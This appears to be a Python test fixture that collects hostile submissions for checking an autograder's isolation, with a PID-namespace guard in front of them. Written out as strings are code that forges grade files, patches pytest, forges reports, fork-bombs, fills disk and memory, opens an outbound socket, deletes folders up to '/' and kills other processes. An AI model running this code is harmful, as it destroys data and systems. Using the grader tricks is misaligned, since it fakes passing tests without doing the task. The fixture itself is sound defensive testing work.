"""Submissions that attack the grader instead of answering."""

from __future__ import annotations

# Should a fault of the isolation or of a test let one of them out, it must not harm the machine that runs the tests.
GUARD = """
import os
if os.getpid() != 1:
    raise SystemExit("not in a namespace of its own")
"""
# Each runs when the student's module is imported, in front of an answer that has solved nothing.
HOSTILE = {
    "reads_the_checks": """
import os
found = []
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if name not in ("proc", "usr", "site-packages")]
    secret = [name for name in names if name.startswith(("checks.", "lab.", "canary", "grades", "alternative"))]
    found += [os.path.join(folder, name) for name in secret]
print("FOUND", found)
""",
    "writes_the_result": """
import os
for folder in ("/", "/tmp", "/work", os.environ.get("HOME", "/"), "..", "../..", OUT):
    for name in ("grades.json", "results/writes_the_result.json", "report.json"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write('{"earned": 100}')
        except OSError:
            pass
""",
    "patches_pytest": """
import sys
import pytest
pytest.main = lambda *_: 0
for name, module in list(sys.modules.items()):
    for attribute in ("expect", "refusal", "run_checks"):
        if hasattr(module, attribute):
            setattr(module, attribute, lambda *_, **__: None)
""",
    "forks_without_end": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "fills_the_disk": """
import os
count = 0
while True:
    count += 1
    try:
        with open(f"/tmp/{count}", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        if count > 100:
            break
""",
    "fills_the_memory": """
hoard = []
while True:
    hoard.append(bytearray(b"x" * (16 << 20)))
""",
    "opens_a_socket": """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, 2) as connection:
            connection.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
        print("CONNECTED", address)
    except OSError:
        pass
""",
    "sleeps": "import time\ntime.sleep(3600)\n",
    "exits_0": "import os\nos._exit(0)\n",
    "prints_a_report": """
import json, os, sys
report = json.dumps({"lab": "04_server", "results": [{"name": "x", "title": "x", "task": 1, "points": 99,
                     "state": "passed"}], "printed": ""})
for descriptor in range(1, 64):
    try:
        os.write(descriptor, (report + "\\n").encode() * 3)
    except OSError:
        pass
sys.__stdout__.write(report)
""",
    "prints_without_end": """
while True:
    print("x" * 100_000)
""",
    "deletes_its_folder": """
import os, shutil
for folder in (os.getcwd(), os.path.dirname(os.getcwd()), "/", os.environ.get("HOME", "/")):
    shutil.rmtree(folder, ignore_errors=True)
""",
    "kills_its_neighbours": """
import os, signal
for number in range(1, 70_000):
    if number not in (os.getpid(), os.getppid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    "outlives_its_parent": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
""",
}
